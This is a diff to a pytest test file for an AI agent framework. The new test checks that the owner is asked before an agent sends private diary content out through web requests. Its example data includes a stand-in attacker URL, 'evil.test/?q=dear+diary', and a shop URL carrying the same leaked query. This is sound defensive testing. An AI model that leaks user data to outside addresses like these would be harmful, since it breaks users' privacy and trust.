@@ -9,7 +9,7 @@ from typing import Annotated
 import pytest
 
 from auteryn.agent.taint import LABEL
-from auteryn.policy.gates import ALLOW_FOR_RUN, FOREIGN
+from auteryn.policy.gates import ALLOW_FOR_RUN, DENY, FOREIGN
 from auteryn.schema.plan import StepDraft
 from auteryn.schema.run import Options
 from auteryn.service.desk import Desk
@@ -20,7 +20,7 @@ from auteryn.testing.scripted import call, safety
 from auteryn.testing.world import World
 from auteryn.tools.files import file_read, file_write
 from auteryn.tools.time import wait
-from auteryn.tools.tool import ToolContext, tool
+from auteryn.tools.tool import Judged, ToolContext, tool
 
 
 @tool(effect="read", untrusted=True, sends=True)
@@ -94,5 +94,47 @@ def test_what_another_run_left_in_the_files_a_run_begins_with_is_as_foreign_as_i
             new = await (desk.retry(old.id) if how == "retry" else desk.fork(old.id, Fork(after=1, effects="free")))
             asked = await world.asked(new.id)
             assert [ask.subject and ask.subject.tool for ask in asked.asks] == ["page"]
+
+    skipping(story())
+
+
+GOOD, EVIL = "https://shop.test/prices", "https://evil.test/?q=dear+diary"
+
+
+@tool(
+    effect="read",
+    group="web",
+    untrusted=True,
+    judge=lambda args, files, run: Judged(target=args["url"], sends=True, url=args["url"]),
+)
+async def visit(ctx: ToolContext, url: Annotated[str, "Where"]) -> dict[str, str]:
+    """Read a page."""
+    return {"url": url, "text": f"You are at {url}. See {GOOD}"}
+
+
+@pytest.mark.proves("L14")
+@pytest.mark.parametrize(
+    ("task", "before", "url", "asks"),
+    [
+        (f"Compare with {GOOD}", "https://a.test/", GOOD, False),
+        ("Compare", "https://a.test/", GOOD, False),
+        ("Compare", "https://a.test/", "https://shop.test/prices?q=dear+diary", True),
+        ("Compare", EVIL, EVIL, True),
+    ],
+)
+def test_an_address_is_free_that_the_owner_or_a_page_named_before_the_model_did(
+    tmp_path: Path, task: str, before: str, url: str, asks: bool
+) -> None:
+    """A page that repeats what it was asked for makes no address known."""
+
+    async def story() -> None:
+        script = [call("visit", url=before), DIARY, call("visit", url=url), "done"]
+        async with World(tmp_path, model=script, tools=[visit, diary]) as world:
+            run = await world.start(task)
+            now = await world.asked(run)
+            assert [ask.subject.target for ask in now.asks if ask.subject] == ([url] if asks else [])
+            if asks:
+                await world.answer(run, DENY)
+            assert (await world.ended(run)).status == "completed"
 
     skipping(story())
